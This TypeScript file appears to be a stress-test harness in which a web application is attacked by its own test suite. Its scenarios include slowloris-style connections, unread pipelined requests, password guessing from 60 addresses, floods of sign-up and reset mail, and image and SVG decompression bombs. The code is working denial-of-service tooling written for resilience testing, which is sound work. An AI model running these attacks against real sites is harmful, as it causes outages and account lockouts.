import { setTimeout as delay } from "node:timers/promises";
import { bitPng, svgOf } from "../../../test/helpers/png.ts";
import { csrfIn, formOf } from "./client.ts";
import { floods } from "./floods.ts";
import type { Attack, Stranger } from "./stage.ts";
import { websites } from "./websites.ts";

/** Beginnings of requests whose rest comes a byte at a time, or never. */
const HEAD = "HTTP/1.1\r\nHost: HOST\r\n";
const FORM = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n";
const BEGINNINGS = [
  `GET / ${HEAD}X-A: `,
  `POST /mcp ${HEAD}Content-Type: application/json\r\nAccept: text/event-stream\r\nContent-Length: 1000000\r\n\r\n{`,
  `POST /sign-in ${HEAD}${FORM}a=`,
  `POST /oauth/token ${HEAD}${FORM}`,
  `POST /webhooks/paypal ${HEAD}Content-Length: 1000000\r\n\r\n`,
  "",
];
const [SLOW_SENDERS, SLOW_READERS, PIPELINED] = [1500, 400, 100];

const BLUR =
  '<g filter="url(#a)"><filter id="a"><feGaussianBlur stdDeviation="900"/></filter><rect width="9000" height="9000"/></g>';
const LAYERS = 400;
const layers = `${'<g opacity=".9"><rect width="900" height="900"/>'.repeat(LAYERS)}${"</g>".repeat(LAYERS)}`;
const svg = (size: number, content: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}">${content}</svg>`);
/** What each would take when it is drawn: 0.3, 3.6, 1.3 and 0.9 GB. */
function imagesThatUnpack(): [name: string, bytes: Buffer][] {
  const picture = bitPng(15_000, 15_000);
  return [
    ["one.svg", svgOf(bitPng(9000, 9000))],
    ["four.svg", svgOf(picture, picture, picture, picture)],
    ["layers.svg", svg(900, layers)],
    ["plain.png", picture],
  ];
}
const UPLOADS = 20;
let pictures: Record<"huge" | "bomb" | "blurred", Buffer> | undefined;

/** Forms that anybody may open, sent from 60 addresses. */
const forms = (title: string, page: string, formAt: (person: string, nth: number) => [string, object]): Attack => ({
  title,
  async run({ stage, send, flood }) {
    const opened = await send({ path: page });
    const cookie = [opened.headers["set-cookie"] ?? []].flat()[0]?.split(";")[0] ?? "";
    await flood(16, (nth) => {
      const [path, fields] = formAt(stage.person.email, nth);
      return send({ ...formOf(stage.base, path, { csrf: csrfIn(opened), ...fields }, cookie), from: nth % 60 });
    });
  },
});

/** The page on which the owner of a listing sets its pictures, and the cookie that opens it. */
async function openPictures({ stage: { strangers }, send }: Stranger, nth: number) {
  const { cookie: sid, listingId } = strangers[nth % strangers.length]!;
  const path = `/account/listings/${listingId}/pictures`;
  const cookie = `sid=${sid}`;
  return { path, cookie, page: await send({ path, headers: { cookie }, from: nth }) };
}

/** By name, in the order in which they run. */
export const attacks: Record<string, Attack> = {
  idle: { title: "nobody", run: ({ untilOver }) => untilOver() },
  ...websites,
  ...floods,
  passwords: forms("Wrong passwords for one account, from 60 addresses", "/sign-in", (email, nth) => [
    "/sign-in",
    { email, return_to: "/", password: `wrong password ${nth}` },
  ]),
  "account-mails": forms(
    "Forgotten passwords and sign-ups, for one person and for thousands of made-up ones",
    "/forgot",
    (person, nth) => {
      const email = nth % 3 === 0 ? person : `nobody${nth}@nowhere.test`;
      const newcomer = { email, name: "N", password: "a long enough password", terms: "on" };
      return nth % 2 ? ["/sign-up", newcomer] : ["/forgot", { email }];
    },
  ),
  "slow-senders": {
    title: `${SLOW_SENDERS} connections that trickle headers or bodies, or say nothing`,
    async run({ stage: { base }, socket, isOver }) {
      const open = Array.from({ length: SLOW_SENDERS }, (_, nth) => {
        const one = socket(nth % 60);
        const beginning = BEGINNINGS[nth % BEGINNINGS.length]!.replace("HOST", new URL(base).host);
        one.once("connect", () => one.write(beginning));
        return { one, isSilent: beginning === "" };
      });
      while (!isOver()) {
        await delay(1000);
        for (const { one, isSilent } of open) if (!isSilent && one.writable) one.write("x");
      }
    },
  },
  "slow-readers": {
    title: `${SLOW_READERS} connections with ${PIPELINED} pipelined requests each, whose answers are not read`,
    async run({ stage: { base, slugs }, socket, isOver, untilOver }) {
      for (let nth = 0; nth < SLOW_READERS && !isOver(); nth++) {
        const one = socket(nth % 8);
        one.pause();
        const path = nth % 2 ? "/api/v1/openapi.json" : `/listings/${slugs[nth % slugs.length]}`;
        one.write(`GET ${path} HTTP/1.1\r\nHost: ${new URL(base).host}\r\n\r\n`.repeat(PIPELINED));
        await delay(2);
      }
      await untilOver();
    },
  },
  "owned-pictures": {
    title: "Pictures of 16,000 × 16,000 pixels, and SVG that is hard to draw, set by 40 owners",
    website({ url = "" }, res) {
      pictures ??= {
        huge: bitPng(16_000, 16_000),
        bomb: svgOf(bitPng(9000, 9000)),
        blurred: svg(9000, BLUR.repeat(50)),
      };
      const kind = url.includes("1.svg") ? "bomb" : url.includes("svg") ? "blurred" : "huge";
      res.writeHead(200, { "content-type": kind === "huge" ? "image/png" : "image/svg+xml" }).end(pictures[kind]);
    },
    async run(stranger) {
      const { base, strangers, siteHosts } = stranger.stage;
      const opened = strangers.map((_, nth) => openPictures(stranger, nth));
      await stranger.flood(8, async (nth) => {
        const { path, cookie, page } = await opened[nth % opened.length]!;
        const fields: [string, string][] = [
          ["csrf", csrfIn(page)],
          ["seen", /name="seen" value="([^"]*)"/.exec(page.text)?.[1] ?? ""],
        ];
        for (let at = 0; at < 6; at++) {
          const url = `https://${siteHosts[nth % siteHosts.length]}/${nth}-${at}.${at % 2 ? "svg" : "png"}`;
          fields.push([`pictures.${at}.url`, url], [`pictures.${at}.alt`, "A picture"]);
        }
        await stranger.send(formOf(base, path, fields, cookie));
      });
    },
  },
  "image-bombs": {
    title: `${UPLOADS} pictures that unpack to gigabytes, uploaded by as many accounts`,
    mostGrowthMb: 100,
    async run(stranger) {
      const bombs = imagesThatUnpack();
      const upload = async (nth: number) => {
        const { cookie, page } = await openPictures(stranger, nth);
        const [name, bytes] = bombs[nth % bombs.length]!;
        const form = new FormData();
        form.append("csrf", csrfIn(page));
        form.append("shape", "wide");
        form.append("picture", new File([new Uint8Array(bytes)], name));
        const multipart = new Response(form);
        const asked = formOf(stranger.stage.base, "/account/uploads", {}, cookie);
        const headers = { ...asked.headers, "content-type": multipart.headers.get("content-type") ?? "" };
        await stranger.send({ ...asked, from: nth, headers, body: Buffer.from(await multipart.arrayBuffer()) });
      };
      const all = Array.from({ length: UPLOADS }, (_, nth) => nth);
      const loop = async () => {
        for (let nth = all.shift(); nth !== undefined; nth = all.shift()) await upload(nth);
      };
      await Promise.all(Array.from({ length: 4 }, loop));
    },
  },
};
